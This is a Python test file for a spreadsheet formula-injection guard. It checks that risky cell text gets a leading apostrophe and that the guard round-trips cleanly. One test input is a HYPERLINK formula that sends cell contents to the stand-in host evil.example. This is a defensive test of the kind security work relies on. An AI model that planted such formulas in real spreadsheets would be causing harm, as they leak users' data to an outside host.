"""The one rule for spreadsheet cells (accord.kernel.ui.spreadsheet): text a spreadsheet could run gets an
apostrophe in front, nothing else changes, and the register importer takes exactly that apostrophe off."""

import sys
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from accord.kernel.ui.spreadsheet import (
    MAY_NEED_GUARD,
    WHITE_SPACE,
    needs_guard,
    neutralise,
    strip_guard,
    xlsx_cell,
)
from accord.outputs.transfer.cells import clean_text

FORMULA_FIRST = tuple("=+-@＝＋－＠")
awkward_text = st.one_of(
    st.text(),
    st.text(alphabet=st.sampled_from("=+-@＝＋－＠'\t\r\n \u3000\xa0a1("), max_size=6),
    st.builds(
        lambda space, first, rest: space + first + rest,
        st.text(alphabet=st.sampled_from(" \t\r\n\xa0\u2003'"), max_size=3),
        st.sampled_from(FORMULA_FIRST),
        st.text(max_size=20),
    ),
)


def runs(text: str) -> bool:
    """Whether a spreadsheet could take the text for a formula (the test's own statement of it)."""
    return text.startswith(("\t", "\r")) or text.lstrip().startswith(FORMULA_FIRST)


@pytest.mark.parametrize(
    "typed, written",
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("-1", "'-1"),  # as text; a number -1 is left alone
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\n@A1", "'\n@A1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("'=1", "''=1"),  # already guarded-looking text keeps its own apostrophe
        ("a=b", "a=b"),
        ("Community Safety Partnership", "Community Safety Partnership"),
        ("'quoted'", "'quoted'"),
        (" plain", " plain"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_in_front(typed, written):
    assert neutralise(typed) == written
    assert strip_guard(written) == typed


@pytest.mark.parametrize(
    "value", [None, -1, 0, -2.5, Decimal("-12500.50"), date(2026, 4, 1), datetime(2026, 4, 1, 9), True]
)
def test_numbers_dates_and_nothing_are_left_as_they_are(value):
    assert neutralise(value) is value


@given(awkward_text)
def test_what_is_written_never_starts_a_formula(text):
    written = neutralise(text)
    assert not runs(written)
    assert written in (text, "'" + text)
    assert (written != text) == needs_guard(text)


@given(awkward_text)
def test_taking_the_guard_off_gives_back_exactly_what_was_typed(text):
    assert strip_guard(neutralise(text)) == text


@given(awkward_text)
def test_text_left_alone_has_no_guard_to_take_off(text):
    if neutralise(text) == text:
        assert strip_guard(text) == text


@given(awkward_text)
def test_the_quick_first_character_check_never_skips_text_that_needs_the_guard(text):
    if needs_guard(text):
        assert text[0] in MAY_NEED_GUARD


def test_the_white_space_listed_is_all_the_white_space_python_knows():
    assert set(WHITE_SPACE) == {chr(n) for n in range(sys.maxunicode + 1) if chr(n).isspace()}


@given(awkward_text)
def test_the_register_importer_reads_an_exported_cell_back_unchanged(text):
    """clean_text trims white space and drops control characters and carriage returns: for text it
    has already cleaned, reading back what an export wrote gives the same text."""
    cleaned = clean_text(text)
    assert clean_text(neutralise(cleaned)) == cleaned


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@A1", "\t=1", "'=1", "#N/A", "plain"])
def test_an_excel_cell_of_text_is_always_text_behind_the_same_guard(typed):
    sheet = Workbook(write_only=True).create_sheet()
    cell = xlsx_cell(sheet, typed)
    assert (cell.value, cell.data_type) == (neutralise(typed), "s")


@pytest.mark.parametrize("value, data_type", [(-1, "n"), (Decimal("-2.5"), "n"), (date(2026, 4, 1), "d")])
def test_an_excel_cell_of_a_number_or_date_keeps_its_type(value, data_type):
    sheet = Workbook(write_only=True).create_sheet()
    cell = xlsx_cell(sheet, value)
    assert (cell.value, cell.data_type) == (value, data_type)
